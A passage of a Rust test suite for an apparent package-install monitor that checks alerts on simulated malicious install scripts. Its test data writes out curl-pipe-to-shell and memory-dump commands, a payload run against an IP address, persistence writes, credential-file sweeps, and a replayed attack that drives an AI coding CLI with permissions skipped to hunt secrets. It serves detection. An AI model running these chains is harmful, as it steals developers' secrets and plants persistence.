        .exec(300, 1, &["make", "release"], &[])
        .spawn(301, 300, &["git", "push"], &[])
        .spawn(302, 300, &["npm", "publish"], &[]);
    assert!(run.take().is_empty());
    // But package code below that npm publish is package code.
    run.spawn(303, 302, &["sh", "-c", "npm whoami"], POSTINSTALL).spawn(304, 303, &["npm", "whoami"], &[]);
    assert_eq!(run.one().rule.id, "npm-token-use");
}

#[test]
fn exec_of_a_file_the_tree_wrote() {
    // A static binary dropped in /tmp and run (proc-macro1's build script).
    let mut run = npm_tree();
    run.open_full(102, "/tmp/rust-setup", Some("/tmp/rust-setup"), 4, write_flags()).spawn(
        103,
        102,
        &["/tmp/rust-setup", "23.254.165.112:443"],
        &[],
    );
    let alert = run.one();
    assert_eq!(alert.rule.id, "exec-of-written-file");
    assert_eq!(alert.credwatch.written_file.as_deref(), Some("/tmp/rust-setup"));

    // Written under another name, then renamed; the program is a copied interpreter.
    let mut run = npm_tree();
    run.open_full(102, "/tmp/.x.part", Some("/tmp/.x.part"), 4, write_flags());
    rename(&mut run, 102, "renameat2", "/tmp/.x.part", "/tmp/.x");
    run.spawn(103, 102, &["/tmp/.x", "-e", "1"], &[]);
    assert_eq!(run.one().credwatch.written_file.as_deref(), Some("/tmp/.x"));

    // A script it wrote, run by an interpreter (tj-actions' /tmp/run.sh), relative to cwd.
    let mut run = npm_tree();
    run.open_full(102, "run.sh", Some("/tmp/run.sh"), 4, write_flags()).fork(102, 103).exec_full(
        103,
        102,
        "/bin/bash",
        &["bash", "./run.sh"],
        "/tmp",
        &[],
    );
    let alert = run.one();
    assert_eq!(
        (alert.rule.id.as_str(), alert.credwatch.written_file.as_deref()),
        ("exec-of-written-file", Some("/tmp/run.sh"))
    );

    // A Bun it downloaded is its own, critical rule.
    let mut run = npm_tree();
    run.open_full(102, "/home/alice/.bun/bin/bun", Some("/home/alice/.bun/bin/bun"), 4, write_flags()).spawn(
        103,
        102,
        &["/home/alice/.bun/bin/bun", "bun_environment.js"],
        &[],
    );
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("downloaded-bun", Severity::Critical));
}

#[test]
fn exec_of_files_the_tree_did_not_write_does_not_alert() {
    let mut run = npm_tree();
    // Read, not written.
    run.open(102, "/tmp/tool").spawn(103, 102, &["/tmp/tool"], &[]);
    // Written by the manager itself (unpacking a package), run by package code.
    run.open_full(100, "/tmp/npm-1/tool", Some("/tmp/npm-1/tool"), 4, write_flags()).spawn(
        104,
        102,
        &["/tmp/npm-1/tool"],
        &[],
    );
    // Written under node_modules by package code (install scripts fetching their binary).
    run.open_full(102, "bin/esbuild", Some("/home/alice/app/node_modules/esbuild/bin/esbuild"), 4, write_flags())
        .spawn(105, 102, &["/home/alice/app/node_modules/esbuild/bin/esbuild", "--version"], &[]);
    // A failed open wrote nothing.
    run.open_full(102, "/tmp/failed", None, -13, write_flags()).spawn(106, 102, &["/tmp/failed"], &[]);
    assert!(run.take().is_empty());

    // cargo runs the build script its rustc/linker wrote: the manager's doing.
    let script = "/home/alice/w/target/debug/build/x-00ff00ff00ff00ff/build-script-build";
    run.exec(300, 1, &["cargo", "build"], &[])
        .spawn(301, 300, &["rustc", "--crate-name", "build_script_build"], &[])
        .spawn(302, 301, &["cc", "-o", script], &[])
        .open_full(302, script, Some(script), 4, write_flags())
        .spawn(303, 300, &[script], &[]);
    assert!(run.take().is_empty());
    // ...but what that build script writes and runs is not.
    run.open_full(303, "/tmp/payload", Some("/tmp/payload"), 4, write_flags()).spawn(304, 303, &["/tmp/payload"], &[]);
    assert_eq!(run.one().rule.id, "exec-of-written-file");
}

#[test]
fn persistence_writes_alert_and_reads_do_not() {
    let mut run = npm_tree();
    run.open(102, "/home/alice/.bashrc");
    run.open_full(102, "/home/alice/.bashrc", Some("/home/alice/.bashrc"), 3, (libc::O_WRONLY | libc::O_APPEND) as u64);
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.category.as_str()), ("shell-rc-write", "persistence"));
    assert_eq!(alert.file.as_ref().unwrap().flags, "O_WRONLY|O_APPEND");

    for (path, rule) in [
        ("/home/alice/.config/systemd/user/sysmon.service", "systemd-user-unit-write"),
        ("/var/spool/cron/crontabs/alice", "crontab-write"),
        ("/etc/sudoers.d/runner", "sudoers-write"),
        ("/home/alice/src/other-repo/.github/workflows/formatter_123.yml", "github-workflow-write"),
        ("/home/alice/.venv/lib/python3.12/site-packages/litellm_init.pth", "python-pth-write"),
        ("/home/alice/.claude/hooks/pre.sh", "ai-agent-config-write"),
        ("/home/alice/app/.claude/settings.json", "ai-agent-config-write"),
        ("/home/alice/.ssh/authorized_keys", "ssh-authorized-keys-write"),
    ] {
        run.open_full(102, path, Some(path), 3, write_flags());
        assert_eq!(run.one().rule.id, rule, "{path}");
    }
    // creat(2) is a write whatever its flags say.
    run.send(
        102,
        EventData::Open(Open {
            tid: 102,
            syscall: "creat".into(),
            dirfd: AT_FDCWD,
            path: "/home/alice/.profile".into(),
            abs_path: Some("/home/alice/.profile".into()),
            ret: 3,
            ..Open::default()
        }),
    );
    assert_eq!(run.one().rule.id, "shell-rc-write");
}

#[test]
fn persistence_by_rename_and_link() {
    let mut run = npm_tree();
    rename(&mut run, 102, "renameat2", "/tmp/rc", "/home/alice/.zshrc");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str()), ("shell-rc-write", "rename"));
    let file = alert.file.unwrap();
    assert_eq!((file.path.as_str(), file.renamed_from.as_deref()), ("/home/alice/.zshrc", Some("/tmp/rc")));
    rename(&mut run, 102, "linkat", "/tmp/w.yml", "/home/alice/app/.github/workflows/discussion.yaml");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str()), ("github-workflow-write", "link"));
    rename(&mut run, 102, "symlinkat", "/tmp/evil.service", "/home/alice/.config/systemd/user/x.service");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str()), ("systemd-user-unit-write", "symlink"));
    // A failed rename did nothing.
    run.send(
        102,
        EventData::Rename(Rename {
            tid: 102,
            syscall: "rename".into(),
            old_path: "/tmp/rc".into(),
            new_path: "/home/alice/.bash_profile".into(),
            ret: -13,
            ..Rename::default()
        }),
    );
    assert!(run.take().is_empty());
}

#[test]
fn the_manager_extracting_files_is_not_persistence() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[]);
    run.open_full(100, "x", Some("/home/alice/app/.github/workflows/ci.yml"), 3, write_flags());
    rename(&mut run, 100, "rename", "/home/alice/.npm/_cacache/tmp/x", "/home/alice/app/.claude/settings.json");
    run.exec(200, 1, &["python3", "-m", "pip", "install", "litellm"], &[]).open_full(
        200,
        "x",
        Some("/home/alice/.venv/lib/python3.12/site-packages/litellm_init.pth"),
        3,
        write_flags(),
    );
    assert!(run.take().is_empty());
    // The same write by pip's build backend (package code) is.
    run.spawn(201, 200, &["python3", "setup.py", "install"], &[]).open_full(
        201,
        "x",
        Some("/home/alice/.venv/lib/python3.12/site-packages/litellm_init.pth"),
        3,
        write_flags(),
    );
    assert_eq!(run.one().rule.id, "python-pth-write");
    // A nested "manager" may be package code: Bun running a payload is not Bun installing.
    run.exec(300, 1, &["npm", "install"], &[])
        .spawn(301, 300, &["sh", "-c", "bun bun_environment.js"], POSTINSTALL)
        .spawn(302, 301, &["bun", "bun_environment.js"], &[])
        .open_full(302, "x", Some("/home/alice/app/.github/workflows/formatter_1.yml"), 3, write_flags())
        .open(302, "/home/alice/.npmrc");
    let alerts = run.take();
    let seen: Vec<(&str, Severity)> = alerts.iter().map(|a| (a.rule.id.as_str(), a.rule.severity)).collect();
    assert_eq!(seen, [("github-workflow-write", Severity::Critical), ("npm-registry-token", Severity::High)]);
    assert_eq!(alerts[0].package.manager, "bun");
    // A nested `bun install` is still a manager reading its configuration.
    run.spawn(303, 301, &["bun", "install"], &[]).open(303, "/home/alice/.npmrc");
    assert_eq!(run.one().rule.severity, Severity::Low);
}

#[test]
fn syscall_rules_and_their_targets() {
    let mut run = npm_tree();
    run.spawn(103, 102, &["node", "child.js"], &[]);
    // Within the tree: a parent stopping or debugging its own child, a process itself.
    syscall(&mut run, 102, "kill", Some("SIGTERM"), Some(103), false);
    syscall(&mut run, 102, "ptrace", Some("PTRACE_ATTACH"), Some(103), false);
    syscall(&mut run, 102, "process_vm_readv", None, Some(102), false);
    syscall(&mut run, 102, "ptrace", Some("PTRACE_TRACEME"), None, false);
    assert!(run.take().is_empty());

    syscall(&mut run, 102, "ptrace", Some("PTRACE_SEIZE"), Some(1733), false);
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.category.as_str()), ("ptrace-attach", "tamper"));
    assert_eq!((alert.event.action.as_str(), alert.event.outcome.as_str()), ("syscall", "alerted"));
    assert_eq!(
        alert.credwatch.syscall,
        Some(AlertSyscall {
            name: "ptrace".into(),
            operation: Some("PTRACE_SEIZE".into()),
            target_pid: Some(1733),
            ret: Some(0)
        })
    );
    syscall(&mut run, 102, "process_vm_writev", None, Some(1733), false);
    assert_eq!(run.one().rule.id, "process-vm-access");
    syscall(&mut run, 102, "init_module", None, None, false);
    assert_eq!(run.one().rule.id, "kernel-module-load");
    syscall(&mut run, 102, "tgkill", Some("SIGSTOP"), Some(4242), false);
    assert_eq!(run.one().rule.id, "signal-to-agent");
    syscall(&mut run, 102, "io_uring_setup", None, None, false);
    assert_eq!((run.one().rule.category.as_str()), "evasion");
    syscall(&mut run, 102, "io_uring_submit_req", Some("IORING_OP_OPENAT"), None, false);
    syscall(&mut run, 102, "io_uring_submit_req", Some("IORING_OP_OPENAT"), None, false);
    syscall(&mut run, 102, "io_uring_submit_req", Some("IORING_OP_READ"), None, false);
    assert_eq!(run.one().rule.id, "io-uring-file-ops");
    // The manager's own processes and unrelated ones are not package code.
    syscall(&mut run, 1, "bpf", Some("BPF_PROG_LOAD"), None, false);
    assert!(run.take().is_empty());
}

#[test]
fn blocked_events_say_so() {
    let mut run = npm_tree();
    syscall(&mut run, 102, "bpf", Some("BPF_PROG_LOAD"), None, true);
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.event.outcome.as_str()), ("bpf-by-package", "blocked"));
    assert_eq!(alert.credwatch.enforcement, "kernel");
    assert_eq!(alert.credwatch.syscall.as_ref().unwrap().ret, None);

    // An open killed at entry: it never returned, nothing was resolved by the kernel.
    run.send(
        102,
        EventData::Open(Open {
            tid: 102,
            syscall: "openat".into(),
            dirfd: AT_FDCWD,
            path: "/home/alice/.aws/credentials".into(),
            ret: -4,
            blocked: true,
            ..Open::default()
        }),
    );
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.event.outcome.as_str()), ("aws-credentials", "blocked"));
    assert_eq!(alert.credwatch.enforcement, "kernel");
    assert_eq!(alert.file.unwrap().path, "/home/alice/.aws/credentials");

    // Killed while doing what an actor may do (a kernel without the actor's exemption): told.
    run.send(
        100,
        EventData::Open(Open {
            tid: 100,
            syscall: "openat".into(),
            dirfd: AT_FDCWD,
            path: "/home/alice/.npmrc".into(),
            ret: -4,
            blocked: true,
            ..Open::default()
        }),
    );
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("npm-registry-token", Severity::High));
    assert_eq!(alert.event.outcome, "blocked");
}

/// An open a BPF LSM hook refused (`--enforce` with the fentry backend): it failed with EPERM,
/// the process lives, and the kernel named the file it refused.
fn denied_key_open(pid: u32) -> EventData {
    EventData::Open(Open {
        tid: pid,
        syscall: "openat".into(),
        dirfd: AT_FDCWD,
        flags: write_flags(),
        path: "../.ssh/id_rsa".into(),
        abs_path: Some("/home/alice/.ssh/id_rsa".into()),
        ret: -1,
        same_file_as: Some("/home/alice/.ssh/id_rsa".into()),
        denied: true,
        ..Open::default()
    })
}

#[test]
fn denied_events_say_so() {
    let mut run = npm_tree();
    run.send(102, denied_key_open(102));
    let alert = run.one();
    assert_eq!((alert.event.action.as_str(), alert.event.outcome.as_str()), ("open", "denied"));
    assert_eq!(alert.credwatch.enforcement, "lsm");
    assert_eq!(alert.file.unwrap().path, "/home/alice/.ssh/id_rsa");
    // The same refusal again is told again: nothing denied is folded or counted away.
    run.send(102, denied_key_open(102));
    assert_eq!(run.one().event.outcome, "denied");

    run.send(
        102,
        EventData::Syscall(Syscall {
            tid: 102,
            name: "bpf".into(),
            operation: Some("BPF_PROG_LOAD".into()),
            ret: Some(-1),
            denied: true,
            ..Syscall::default()
        }),
    );
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.event.outcome.as_str()), ("bpf-by-package", "denied"));
    assert_eq!(alert.credwatch.enforcement, "lsm");
    assert_eq!(alert.credwatch.syscall.as_ref().unwrap().ret, Some(-1));
}

#[test]
fn a_recorded_denial_replays_to_the_same_alert() {
    let events = |run: &mut Run| {
        run.send(102, denied_key_open(102));
    };
    let mut live = npm_tree();
    events(&mut live);
    let live_alerts = live.take();
    assert_eq!(live_alerts.last().map(|a| a.event.outcome.as_str()), Some("denied"));

    // Recorded: every event the live engine saw, through a trace file and back.
    let mut recorded = npm_tree();
    let mut seen = Vec::new();
    let time = recorded.time_ns;
    seen.push(Event { time_ns: time + 1_000, pid: 102, data: denied_key_open(102) });
    let header = r#"{"credwatch_trace":6,"credwatch_version":"0.1.0","host":"h","kernel":"6.12","start_time":"2026-01-01T00:00:00Z","rules_digest":"00","scope":"machine"}"#;
    let mut text = format!("{header}\n");
    for event in &seen {
        text.push_str(&serde_json::to_string(event).unwrap());
        text.push('\n');
    }
    assert!(text.contains(r#""denied":true"#), "{text}");
    let mut reader =
        crate::trace::TraceReader::new("t.jsonl".into(), Box::new(std::io::Cursor::new(text.into_bytes()))).unwrap();
    while let Some(event) = reader.next_event().unwrap() {
        let alerts = recorded.engine.handle(&event);
        recorded.alerts.extend(alerts);
    }
    assert_eq!(recorded.take(), live_alerts);
}

#[test]
fn an_inode_match_alerts_as_the_credential_file() {
    let mut run = npm_tree();
    // A hardlink to the key, opened under its own name.
    run.send(
        102,
        EventData::Open(Open {
            tid: 102,
            syscall: "openat".into(),
            dirfd: AT_FDCWD,
            path: "/tmp/x".into(),
            abs_path: Some("/tmp/x".into()),
            ret: 3,
            same_file_as: Some("/home/alice/.ssh/id_rsa".into()),
            ..Open::default()
        }),
    );
    let alert = run.one();
    assert_eq!(alert.rule.id, "ssh-private-keys");
    let file = alert.file.unwrap();
    assert_eq!((file.path.as_str(), file.same_file_as.as_deref()), ("/tmp/x", Some("/home/alice/.ssh/id_rsa")));
    // The original opened by name is the same file: a repeat, not a new alert.
    run.open(102, "/home/alice/.ssh/id_rsa");
    assert!(run.take().is_empty());
    // Making the link is caught too.
    rename(&mut run, 102, "link", "/home/alice/.ssh/id_ed25519", "/tmp/y");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str()), ("ssh-private-keys", "link"));
    assert_eq!(alert.file.unwrap().renamed_to.as_deref(), Some("/tmp/y"));
    // So is a symlink to it, its text relative to the link's directory.
    rename(&mut run, 102, "symlinkat", "../home/alice/.aws/credentials", "/tmp/z");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.event.action.as_str()), ("aws-credentials", "symlink"));
    assert_eq!(alert.file.unwrap().path, "/home/alice/.aws/credentials");
}

#[test]
fn a_sweep_is_one_alert_and_folds_the_rest() {
    let mut run = npm_tree();
    run.open(102, "/home/alice/.npmrc").open(102, "/home/alice/.aws/credentials");
    assert_eq!(run.take().len(), 2);
    // A third category within the window: the sweep alert instead of a third one.
    run.open(102, "/home/alice/.ssh/id_ed25519");
    let alert = run.one();
    assert_eq!((alert.rule.id.as_str(), alert.rule.severity), ("credential-sweep", Severity::Critical));
    let sweep = alert.credwatch.sweep.clone().unwrap();
    assert_eq!(sweep.categories, ["cloud", "registry", "ssh"]);
    assert_eq!(sweep.rules, ["aws-credentials", "npm-registry-token", "ssh-private-keys"]);
    assert_eq!((sweep.folded, sweep.window_s, sweep.is_final), (0, 30, false));
    assert_eq!(sweep.files, ["/home/alice/.npmrc", "/home/alice/.aws/credentials", "/home/alice/.ssh/id_ed25519"]);
    assert!(alert.credwatch.rotate.iter().any(|r| r.starts_with("AWS")));
    assert!(alert.credwatch.rotate.iter().any(|r| r.starts_with("Assume every credential")));
    // Later credential alerts of the tree, by any member, are folded.
    run.spawn(103, 102, &["cat"], &[]);
    for path in ["/home/alice/.kube/config", "/home/alice/.docker/config.json", "/home/alice/.vault-token"] {
        run.open(103, path);
    }
    run.open(103, "/home/alice/.vault-token");
    assert!(run.take().is_empty());
    assert_eq!(run.engine.stats().folded, 4);
    // Other kinds of alerts still go out on their own.
    run.spawn(104, 102, &["gh", "auth", "token"], &[]);
    assert_eq!(run.one().rule.id, "gh-auth-token");
    // The end of the stream: one final summary with the counts, once.
    let summary = run.engine.flush();
    assert_eq!(summary.len(), 1, "{summary:#?}");
    let sweep = summary[0].credwatch.sweep.clone().unwrap();
    assert!(sweep.is_final);
    assert_eq!(sweep.folded, 4);
    assert_eq!(sweep.categories, ["cloud", "docker", "kubernetes", "registry", "secrets", "ssh"]);
    assert_eq!(
        sweep.folded_by_category,
        BTreeMap::from([("docker".into(), 1), ("kubernetes".into(), 1), ("secrets".into(), 2)])
    );
    assert_eq!(sweep.files.len(), 6);
    assert_eq!(sweep.files[5], "/home/alice/.vault-token");
    assert_eq!(summary[0].process.pid, 102);
    assert!(summary[0].credwatch.rotate.iter().any(|r| r.starts_with("Vault")));
    assert!(run.engine.flush().is_empty());
}

#[test]
fn a_sweep_summary_comes_when_the_tree_ends() {
    let mut run = npm_tree();
    for path in ["/home/alice/.npmrc", "/home/alice/.aws/credentials", "/home/alice/.ssh/id_rsa", "/home/alice/.pgpass"]
    {
        run.open(102, path);
    }
    assert_eq!(run.take().len(), 3);
    run.exit(102).exit(101);
    assert!(run.take().is_empty());
    run.exit(100);
    let alert = run.one();
    assert_eq!(alert.rule.id, "credential-sweep");
    assert_eq!(alert.credwatch.sweep.unwrap().folded, 1);
    assert!(run.engine.flush().is_empty());
}

#[test]
fn no_sweep_outside_the_window_or_for_low_alerts() {
    let mut run = npm_tree();
    run.open(102, "/home/alice/.npmrc").open(102, "/home/alice/.aws/credentials");
    run.time_ns += 31_000_000_000;
    run.open(102, "/home/alice/.ssh/id_rsa");
    assert_eq!(run.take().iter().filter(|a| a.rule.id == "credential-sweep").count(), 0);

    // git and ssh under the manager for a git dependency: low alerts, no sweep.
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "install"], &[])
        .spawn(110, 100, &["git", "clone", "https://x/y.git"], &[])
        .open(110, "/home/alice/.git-credentials")
        .open(110, "/home/alice/.netrc")
        .spawn(111, 110, &["ssh", "git@x"], &[])
        .open(111, "/home/alice/.ssh/id_rsa");
    let alerts = run.take();
    assert_eq!(alerts.len(), 3);
    assert!(alerts.iter().all(|a| a.rule.severity == Severity::Low));
}

#[test]
fn blocked_reads_are_not_folded_into_a_sweep() {
    let mut run = npm_tree();
    for path in ["/home/alice/.npmrc", "/home/alice/.aws/credentials", "/home/alice/.ssh/id_rsa"] {
        run.open(102, path);
    }
    run.take();
    run.send(
        102,
        EventData::Open(Open {
            tid: 102,
            syscall: "openat".into(),
            dirfd: AT_FDCWD,
            path: "/home/alice/.vault-token".into(),
            ret: -4,
            blocked: true,
            ..Open::default()
        }),
    );
    assert_eq!(run.one().event.outcome, "blocked");
}

/// The rule ids `run` fired since the last take, in order.
fn ids(run: &mut Run) -> Vec<String> {
    run.take().into_iter().map(|a| a.rule.id).collect()
}

#[test]
fn the_nx_chain() {
    let mut run = Run::new();
    let nx = &[("npm_package_name", "nx"), ("npm_package_version", "21.5.0"), ("npm_lifecycle_event", "postinstall")];
    run.exec(100, 1, &["npm", "install"], &[])
        .spawn(101, 100, &["sh", "-c", "node telemetry.js"], nx)
        .spawn(102, 101, &["node", "telemetry.js"], &[])
        .spawn(103, 102, &["gh", "auth", "token"], &[])
        .spawn(104, 102, &["npm", "whoami"], &[])
        .open(104, "/home/alice/.npmrc")
        .open(102, "/home/alice/.npmrc");
    // The payload's read alone, not npm's configuration chain: it goes out high once the
    // chain's window closed, before claude (which takes seconds to start) reads anything.
    run.time_ns += 100_000_000;
    run.spawn(105, 102, &["claude", "--dangerously-skip-permissions", "-p", "inventory"], &[])
        .spawn(106, 105, &["find", "/home/alice", "-name", "*.env"], &[])
        .open(106, "/home/alice/app/.env")
        .open(106, "/home/alice/.ethereum/keystore/UTC--2025-01-01T00-00-00.0Z--ab")
        .open(106, "/home/alice/.ssh/id_rsa")
        .open_full(102, "/tmp/inventory.txt", Some("/tmp/inventory.txt"), 3, write_flags())
        .open_full(102, "/home/alice/.bashrc", Some("/home/alice/.bashrc"), 3, (libc::O_WRONLY | libc::O_APPEND) as u64)
        .spawn(107, 102, &["gh", "repo", "create", "s1ngularity-repository", "--public"], &[]);
    assert_eq!(
        ids(&mut run),
        [
            "gh-auth-token",
            "npm-token-use",
            "npm-registry-token", // npm whoami's own read: low
            "npm-registry-token", // the payload's read: high
            "ai-cli-claude-unsafe",
            "dotenv-files",
            "credential-sweep", // registry, env-files, wallets
            "shell-rc-write",
            "gh-repo-create",
        ]
    );
    let summary = run.engine.flush();
    assert_eq!(summary[0].credwatch.sweep.as_ref().unwrap().folded_by_category, BTreeMap::from([("ssh".into(), 1)]));
}

#[test]
fn the_shai_hulud_2_chain() {
    let mut run = Run::new();
    let hook = &[("npm_package_name", "evil"), ("npm_lifecycle_event", "preinstall")];
    run.exec(100, 1, &["npm", "install"], &[])
        .spawn(101, 100, &["sh", "-c", "node setup_bun.js"], hook)
        .spawn(102, 101, &["node", "setup_bun.js"], &[])
        .spawn(103, 102, &["bash", "-c", "curl -fsSL https://bun.sh/install | bash"], &[])
        .spawn(104, 103, &["bash"], &[])
        .open_full(104, "/home/alice/.bun/bin/bun", Some("/home/alice/.bun/bin/bun"), 3, write_flags())
        .spawn(105, 102, &["/home/alice/.bun/bin/bun", "bun_environment.js"], &[])
        .open_full(105, "/tmp/trufflehog", Some("/tmp/trufflehog"), 3, write_flags())
        .spawn(106, 105, &["/tmp/trufflehog", "filesystem", "/home/alice"], &[])
        .spawn(107, 105, &["sudo", "-n", "true"], &[])
        .spawn(108, 105, &["docker", "run", "--rm", "--privileged", "-v", "/:/host", "ubuntu", "bash"], &[])
        .open_full(
            105,
            "/home/alice/app/.github/workflows/discussion.yaml",
            Some("/home/alice/app/.github/workflows/discussion.yaml"),
            3,
            write_flags(),
        )
        .spawn(109, 105, &["npm", "publish", "/tmp/pkg.tgz"], &[]);
    assert_eq!(
        ids(&mut run),
        [
            "curl-pipe-shell",
            "downloaded-bun",
            "trufflehog",
            "exec-of-written-file", // the trufflehog it downloaded
            "sudo-non-interactive",
            "docker-privileged-host-root",
            "github-workflow-write",
            "npm-publish-from-package",
        ]
    );
}

#[test]
fn the_tj_actions_chain() {
    let mut run = Run::new();
    run.exec(100, 1, &["npm", "ci"], &[])
        .spawn(101, 100, &["node", "index.js"], POSTINSTALL)
        .spawn(102, 101, &["bash", "-c", "echo aGk= | base64 -d > /tmp/run.sh && bash /tmp/run.sh"], &[])
        .spawn(103, 102, &["base64", "-d"], &[])
        .open_full(103, "/tmp/run.sh", Some("/tmp/run.sh"), 1, write_flags())
        .spawn(104, 102, &["bash", "/tmp/run.sh"], &[])
        .spawn(
            105,
            104,
            &[
                "bash",
                "-c",
                "curl -sSf https://gist.githubusercontent.com/x/raw/memdump.py | sudo python3 | tr -d '\\0'",
            ],
            &[],
        )
        .spawn(106, 105, &["sudo", "python3"], &[])
        .open(106, "/proc/1733/maps")
        .open(106, "/proc/1733/mem");
    syscall(&mut run, 106, "ptrace", Some("PTRACE_ATTACH"), Some(1733), false);
    assert_eq!(
        ids(&mut run),
        ["exec-of-written-file", "curl-pipe-shell", "proc-environ-mem", "proc-environ-mem", "ptrace-attach"]
    );
}

/// The project's own script: `npm run <script>` forks `sh -c <script>` with npm's environment
/// for the root project.
const PROJECT_SCRIPT: &[(&str, &str)] =
    &[("npm_package_name", "my-app"), ("npm_lifecycle_event", "dev"), ("npm_command", "run-script")];

/// `args` under `manager_args` as the developer types it: the manager's child runs `script`,
/// whose child reads the project's `.env` and `~/.aws/credentials`. Returns the alerts' rule ids.
fn project_reads(run: &mut Run, manager_args: &[&str], script: &[&str]) -> Vec<String> {
    run.exec(700, 1, manager_args, &[])
        .spawn(701, 700, script, PROJECT_SCRIPT)
        .spawn(702, 701, &["node", "server.js"], &[])
        .open(702, "/home/alice/app/.env")
        .open(702, "/home/alice/.aws/credentials");
    run.take().into_iter().map(|a| a.rule.id).collect()
}

#[test]
fn each_managers_project_commands_run_quiet_code() {
    let sh = ["sh", "-c", "node server.js"];
    for args in [
        &["npm", "run", "dev"][..],
        &["npm", "run-script", "dev"],
        &["npm", "--silent", "run", "dev"],
        &["npm", "test"],
        &["npm", "t"],
        &["npm", "start"],
        &["npm", "restart"],
        &["yarn", "run", "dev"],
        &["yarn", "dev"],
        &["yarn", "test"],
        &["pnpm", "run", "dev"],
        &["pnpm", "test"],
        &["pnpm", "start"],
        &["pnpm", "dev"],
        &["bun", "dev"],
        &["uv", "run", "server.py"],
        &["poetry", "run", "pytest"],
        &["bundle", "exec", "rspec"],
        &["bundle", "e", "rake", "test"],
    ] {
        let mut run = Run::new();
        assert_eq!(project_reads(&mut run, args, &sh), Vec::<String>::new(), "{args:?}");
        // The same under --watch-project alerts.
        let mut run = Run::with(EngineOptions { watch_project: true, ..EngineOptions::default() });
        let ids = project_reads(&mut run, args, &sh);
        assert!(
            ids.contains(&"aws-credentials".to_owned()) && ids.contains(&"dotenv-files".to_owned()),
            "{args:?}: {ids:?}"
        );
    }
    // npm as the kernel runs it: its `#!/usr/bin/env node` line first, then env's exec of node.
    let mut run = Run::new();
    run.exec_full(
        700,
        1,
        "/usr/bin/npm",
        &["/usr/bin/env", "node", "/usr/bin/npm", "run", "dev"],
        "/home/alice/app",
        &[],
    )
    .exec_full(700, 1, "/usr/bin/node", &["node", "/usr/bin/npm", "run", "dev"], "/home/alice/app", &[])
    .spawn(701, 700, &["sh", "-c", "node server.js"], PROJECT_SCRIPT)
    .open(701, "/home/alice/.aws/credentials");
    assert!(run.take().is_empty());
    // A running `npm run dev` found in /proc when `watch` starts: npm has retitled itself.
    let mut run = Run::new();
    run.exec_full(720, 1, "npm", &["npm run dev"], "/home/alice/app", &[])
        .exec_full(721, 720, "/bin/sh", &["sh", "-c", "node server.js"], "/home/alice/app", PROJECT_SCRIPT)
        .open(721, "/home/alice/app/.env");
    assert!(run.take().is_empty());
    // `bun run` is itself the project's code (it runs the script in-process).
    let mut run = Run::new();
    run.exec(700, 1, &["bun", "run", "dev"], &[]).open(700, "/home/alice/.aws/credentials");
    run.spawn(701, 700, &["bun", "test"], &[]).open(701, "/home/alice/.aws/credentials");
    assert!(run.take().is_empty());
    // So is `bun server.ts` from the project's script: bun as the project's interpreter.
    run.exec(710, 1, &["npm", "run", "dev"], &[])
        .spawn(711, 710, &["sh", "-c", "bun ./src/server.ts"], PROJECT_SCRIPT)
        .spawn(712, 711, &["bun", "./src/server.ts"], PROJECT_SCRIPT)
        .open(712, "/home/alice/app/.env");
    assert!(run.take().is_empty());
    // `bunx` from it fetches registry code: watched.
    run.spawn(713, 711, &["bunx", "cowsay"], PROJECT_SCRIPT).open(713, "/home/alice/app/.env");
    assert_eq!(run.one().rule.id, "dotenv-files");
}

#[test]
fn manager_commands_that_install_or_run_registry_code_stay_watched() {
    let sh = ["sh", "-c", "node server.js"];
    for args in [
        &["npm", "install"][..],
        &["npm", "ci"],
        &["npm", "exec", "cowsay"],
        &["npx", "run"],
        &["npx", "cowsay"],
        &["npm", "-w", "pkg", "run", "dev"],
        &["yarn"],
        &["yarn", "add", "x"],
        &["yarn", "dlx", "x"],
        &["pnpm", "dlx", "x"],
        &["pnpm", "install"],
        &["pnpm", "install-test"],
        &["bun", "install"],
        &["bun", "x", "cowsay"],
        &["bunx", "x"],
        &["uvx", "ruff"],
        &["uv", "tool", "run", "ruff"],
        &["poetry", "install"],
        &["pip", "install", "x"],
        &["cargo", "build"],
        &["gem", "install", "x"],
        &["bundle", "install"],
        &["bundle"],
    ] {
        let mut run = Run::new();
        let ids = project_reads(&mut run, args, &sh);
        assert!(ids.contains(&"aws-credentials".to_owned()), "{args:?}: {ids:?}");
    }
}

#[test]
fn managers_started_from_the_projects_scripts_are_watched_again() {
    let mut run = Run::new();
    // `npm run setup` whose script runs `npm install ./dep-1.0.0.tgz`.
    run.exec(800, 1, &["npm", "run", "setup"], &[])
        .spawn(801, 800, &["sh", "-c", "npm install ./dep-1.0.0.tgz"], PROJECT_SCRIPT)
        .spawn(802, 801, &["npm", "install", "./dep-1.0.0.tgz"], PROJECT_SCRIPT)
        // npm itself reading its configuration is npm's business, as for an outermost npm.
        .open(802, "/home/alice/.npmrc");
    assert!(run.take().is_empty());
    run.spawn(
        803,
        802,
        &["sh", "-c", "node postinstall.js"],
        &[("npm_package_name", "dep"), ("npm_package_version", "1.0.0"), ("npm_lifecycle_event", "postinstall")],
    )
    .open(803, "/home/alice/.npmrc");
    let alert = run.one();
    assert_eq!(alert.rule.id, "npm-registry-token");
    assert_eq!(alert.package.name.as_deref(), Some("dep"));
    assert_eq!(alert.package.lifecycle.as_deref(), Some("postinstall"));
    // npx from a script: registry code, watched; a nested `npm test` stays the project's.
    run.spawn(804, 801, &["npx", "cowsay"], PROJECT_SCRIPT)
        .spawn(805, 804, &["sh", "-c", "cowsay"], &[])
        .open(805, "/home/alice/.ssh/id_ed25519");
    let alert = run.one();
    assert_eq!(alert.rule.id, "ssh-private-keys");
    // The whole session is one tree (`credwatch.root_pid`), but each manager the project's code
